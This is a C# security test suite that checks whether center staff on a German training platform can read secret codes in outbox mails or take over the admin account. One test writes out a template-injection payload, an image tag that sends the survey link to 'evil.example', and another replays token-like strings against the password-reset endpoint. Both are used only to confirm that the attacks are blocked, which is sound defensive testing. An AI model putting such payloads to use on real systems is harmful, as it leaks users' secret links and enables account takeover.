using System.Net;
using System.Net.Http.Json;
using System.Text.RegularExpressions;
using Kompetenzzentrum.Contracts.Catalog;
using Kompetenzzentrum.Contracts.Mail;
using Kompetenzzentrum.Contracts.Security;
using Kompetenzzentrum.Testing;
using Marten;
using Microsoft.Extensions.DependencyInjection;

namespace Kompetenzzentrum.Security.Tests;

/// <summary>
/// Audit item 1: mails that carry a secret (confirmation, reset and invitation codes, survey links) are readable
/// only by their SMTP delivery and platform administrators. Before, center staff read the administrator's reset
/// code in the outbox and took the account over. The host delivers to a real SMTP relay here.
/// </summary>
public sealed partial class MailSecretTests(SmtpHostFixture host) : IClassFixture<SmtpHostFixture>
{
    private const string Outbox = "/backoffice/postausgang";

    private sealed record MailView(Guid Id, string To, string Subject, string Category, bool CarriesSecret, string HtmlBody, string TextBody);

    private sealed record ResetPassword(string Email, string Token, string NewPassword);

    [Fact]
    public async Task Center_staff_cannot_take_over_the_admin_by_any_route_after_forgot_password()
    {
        var staff = await host.CreateUserAsync(Roles.CenterStaff);
        var code = await AdminResetCodeAsync();

        // Everything the staff account can read about the admin's mails: API, list page, each mail page, each HTML part.
        var seen = new List<string> { await staff.Client.GetStringAsync($"/api/outbox?to={Admin}&take=500") };
        seen.Add(await staff.Client.GetStringAsync($"{Outbox}?an={Admin}"));
        foreach (var mail in (await staff.Client.GetFromJsonAsync<List<MailView>>($"/api/outbox?to={Admin}&take=500"))!)
        {
            seen.Add(await (await staff.Client.GetAsync($"{Outbox}/{mail.Id}")).Content.ReadAsStringAsync());
            seen.Add(await (await staff.Client.GetAsync($"{Outbox}/{mail.Id}/html")).Content.ReadAsStringAsync());
        }
        Assert.All(seen, text => Assert.DoesNotContain(code, text, StringComparison.Ordinal));

        // Whatever looks like a token there does not reset the admin's password.
        var candidates = seen.SelectMany(text => TokenLike().Matches(text).Select(m => m.Value)).Distinct().Take(100).ToList();
        using var anonymous = host.CreateClient();
        foreach (var candidate in candidates)
        {
            var reset = await anonymous.PostAsJsonAsync("/api/organisations/accounts/reset-password",
                new ResetPassword(Admin, candidate, "Uebernommen-2026!x"));
            Assert.Equal(HttpStatusCode.BadRequest, reset.StatusCode);
        }
        using var admin = await host.SignInAsync(Admin, TestUsers.Password); // the admin's password still holds
    }

    [Fact]
    public async Task Center_staff_read_the_outbox_api_and_get_no_body_of_the_admins_reset_mail()
    {
        var staff = await host.CreateUserAsync(Roles.CenterStaff);
        var code = await AdminResetCodeAsync();

        var mails = (await staff.Client.GetFromJsonAsync<List<MailView>>($"/api/outbox?to={Admin}&category=account.password-reset"))!;

        var newest = mails[0];
        Assert.Equal("Passwort zurücksetzen", newest.Subject);
        Assert.True(newest.CarriesSecret);
        Assert.Equal("", newest.TextBody);
        Assert.Equal("", newest.HtmlBody);
        Assert.DoesNotContain(code, await staff.Client.GetStringAsync($"/api/outbox?to={Admin}"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Center_staff_open_the_outbox_pages_and_see_that_the_reset_mail_exists_but_not_its_code()
    {
        var staff = await host.CreateUserAsync(Roles.CenterStaff);
        var code = await AdminResetCodeAsync();
        using var admin = host.CreateAdminClient();
        var id = (await admin.GetFromJsonAsync<List<MailView>>($"/api/outbox?to={Admin}&category=account.password-reset"))![0].Id;

        var list = await staff.Client.GetStringAsync($"{Outbox}?an={Admin}");
        var page = await staff.Client.GetAsync($"{Outbox}/{id}");
        var html = await staff.Client.GetAsync($"{Outbox}/{id}/html");

        Assert.Contains("Passwort zurücksetzen", list, StringComparison.Ordinal);
        Assert.DoesNotContain(code, list, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        var text = WebUtility.HtmlDecode(await page.Content.ReadAsStringAsync());
        Assert.Contains("vertraulichen Code", text, StringComparison.Ordinal);
        Assert.DoesNotContain(code, text, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Forbidden, html.StatusCode);
        Assert.DoesNotContain(code, await html.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_platform_admin_still_reads_the_code_in_the_outbox_api_the_mail_page_and_the_html_part()
    {
        var code = await AdminResetCodeAsync();
        using var admin = host.CreateAdminClient();

        var mail = (await admin.GetFromJsonAsync<List<MailView>>($"/api/outbox?to={Admin}&category=account.password-reset"))![0];

        Assert.True(mail.CarriesSecret);
        Assert.Contains(code, mail.TextBody, StringComparison.Ordinal);
        Assert.Contains(code, await admin.GetStringAsync($"{Outbox}/{mail.Id}"), StringComparison.Ordinal);
        Assert.Contains(code, await admin.GetStringAsync($"{Outbox}/{mail.Id}/html"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_smtp_delivery_still_carries_the_code()
    {
        var person = await host.CreateUserAsync();
        using var anonymous = host.CreateClient();
        (await anonymous.PostAsJsonAsync("/api/organisations/accounts/forgot-password", new { email = person.Email })).EnsureSuccessStatusCode();
        var code = await host.LatestCodeAsync(person.Email, "account.password-reset");

        await Eventually.Get(() => Task.FromResult<string?>(host.Relay.Received),
            text => text.Contains(code, StringComparison.Ordinal), TimeSpan.FromSeconds(30));
    }

    [Fact]
    public async Task Center_staff_read_an_invitation_mail_without_its_code()
    {
        var staff = await host.CreateUserAsync(Roles.CenterStaff);
        var organisationAdmin = await host.CreateOrganisationAdminAsync();
        var invited = $"kollegin-{Guid.NewGuid():N}@example.org";
        (await organisationAdmin.Client.PostAsJsonAsync($"/api/organisations/{organisationAdmin.OrganisationId}/invitations",
            new { email = invited, asAdmin = true }))
            .EnsureSuccessStatusCode();
        var code = await host.LatestCodeAsync(invited, "organisation.invitation");

        var mail = Assert.Single((await staff.Client.GetFromJsonAsync<List<MailView>>($"/api/outbox?to={invited}"))!);

        Assert.True(mail.CarriesSecret);
        Assert.Equal("", mail.TextBody);
        Assert.DoesNotContain(code, await staff.Client.GetStringAsync($"{Outbox}/{mail.Id}"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Center_staff_read_a_survey_mail_without_its_link()
    {
        var staff = await host.CreateUserAsync(Roles.CenterStaff);
        var participant = await host.CreateOrganisationAdminAsync();
        await using (var session = host.Factory.Services.GetRequiredService<IDocumentStore>().LightweightSession())
        {
            session.Events.StartStream(Guid.CreateVersion7(), new ParticipationCompleted(
                Guid.CreateVersion7(), null, Guid.CreateVersion7(), "experience-tour", ["ki"],
                participant.OrganisationId!.Value, DateTimeOffset.UtcNow));
            await session.SaveChangesAsync();
        }
        var survey = (await Eventually.Get(async () => await host.MailsToAsync(participant.Email),
            mails => mails.Any(m => m.Category == "research.feedback-survey"), TimeSpan.FromSeconds(60)))
            .Single(m => m.Category == "research.feedback-survey");
        var token = SurveyToken().Match(survey.TextBody).Groups[1].Value;
        Assert.NotEqual("", token);

        var mail = Assert.Single((await staff.Client.GetFromJsonAsync<List<MailView>>(
            $"/api/outbox?to={participant.Email}&category=research.feedback-survey"))!);

        Assert.True(mail.CarriesSecret);
        Assert.DoesNotContain(token, await staff.Client.GetStringAsync($"/api/outbox?to={participant.Email}"), StringComparison.Ordinal);
        Assert.DoesNotContain(token, await staff.Client.GetStringAsync($"{Outbox}/{mail.Id}"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Center_staff_cannot_override_or_reset_the_template_of_a_secret_carrying_mail()
    {
        var staff = await host.CreateUserAsync(Roles.CenterStaff);
        const string Survey = "/api/templates/research.feedback-survey/de";
        // Moving the link where staff read it: the subject is not a template, but an external image would do.
        var leak = new { source = "Danke! <img src=\"https://evil.example/{{ link | string.reverse }}\">" };

        Assert.Equal(HttpStatusCode.Forbidden, (await staff.Client.PutAsJsonAsync(Survey, leak)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await staff.Client.DeleteAsync(Survey)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden,
            (await PostEditorFormAsync(staff.Client, "/backoffice/vorlagen/research.feedback-survey/de", leak.source)).StatusCode);
        Assert.False((await staff.Client.GetFromJsonAsync<TemplateView>(Survey))!.IsOverride);
        // The account mails (confirmation, reset, invitation) have no template to override at all.
        Assert.Equal(HttpStatusCode.NotFound, (await staff.Client.PutAsJsonAsync("/api/templates/account.password-reset/de", leak)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await staff.Client.PutAsJsonAsync("/api/templates/account.confirm-email/de", leak)).StatusCode);
    }

    [Fact]
    public async Task The_platform_admin_may_override_the_template_of_a_secret_carrying_mail()
    {
        using var admin = host.CreateAdminClient();
        const string Survey = "/api/templates/research.feedback-survey/en";

        var saved = await admin.PutAsJsonAsync(Survey, new { source = "Thank you! {{ link }}" });

        Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
        var view = (await saved.Content.ReadFromJsonAsync<TemplateView>())!;
        Assert.True(view.IsOverride);
        Assert.True(view.CarriesSecret);
        Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync(Survey)).StatusCode);
    }

    [Fact]
    public async Task A_mail_whose_subject_carries_its_secret_is_refused()
    {
        var mail = host.Factory.Services.GetRequiredService<IMailSender>();
        var leaking = new OutgoingMail("someone@example.org", "Ihr Code: geheim-1234567890", "<p>Code: geheim-1234567890</p>",
            "Code: geheim-1234567890", [], "test.leak")
        {
            Secrets = ["geheim-1234567890"],
        };

        await Assert.ThrowsAsync<ArgumentException>(() => mail.SendAsync(leaking, CancellationToken.None));
        Assert.Empty(await host.MailsToAsync("someone@example.org"));
    }

    [Fact]
    public async Task Center_staff_still_read_ordinary_mails_in_full()
    {
        var staff = await host.CreateUserAsync(Roles.CenterStaff);
        var person = await host.CreateUserAsync();
        using var anonymous = host.CreateClient();
        (await anonymous.PostAsJsonAsync("/api/organisations/accounts",
            new { email = person.Email, password = TestUsers.Password, displayName = "Nochmal", acceptTerms = true })).EnsureSuccessStatusCode();

        var mail = Assert.Single((await staff.Client.GetFromJsonAsync<List<MailView>>(
            $"/api/outbox?to={person.Email}&category=account.registration-attempt"))!);

        Assert.False(mail.CarriesSecret);
        Assert.Contains("Konto anzulegen", mail.TextBody, StringComparison.Ordinal);
    }

    private sealed record TemplateView(string Key, string Language, string Source, bool IsOverride, bool CarriesSecret);

    private static string Admin => TestUsers.AdminEmail;

    private async Task<string> AdminResetCodeAsync()
    {
        using var anonymous = host.CreateClient();
        Assert.Equal(HttpStatusCode.Accepted,
            (await anonymous.PostAsJsonAsync("/api/organisations/accounts/forgot-password", new { email = Admin })).StatusCode);
        return await host.LatestCodeAsync(Admin, "account.password-reset");
    }

    private static async Task<HttpResponseMessage> PostEditorFormAsync(HttpClient client, string path, string source)
    {
        var page = await client.GetStringAsync(path);
        var antiforgery = Antiforgery().Match(page).Groups[1].Value;
        return await client.PostAsync(path, new FormUrlEncodedContent(
            [new("__RequestVerificationToken", antiforgery), new("source", source), new("aktion", "speichern")]));
    }

    [GeneratedRegex("[A-Za-z0-9_-]{40,}")]
    private static partial Regex TokenLike();

    [GeneratedRegex("/umfrage/([A-Za-z0-9_-]+)")]
    private static partial Regex SurveyToken();

    [GeneratedRegex("name=\"__RequestVerificationToken\" value=\"([^\"]+)\"")]
    private static partial Regex Antiforgery();
}
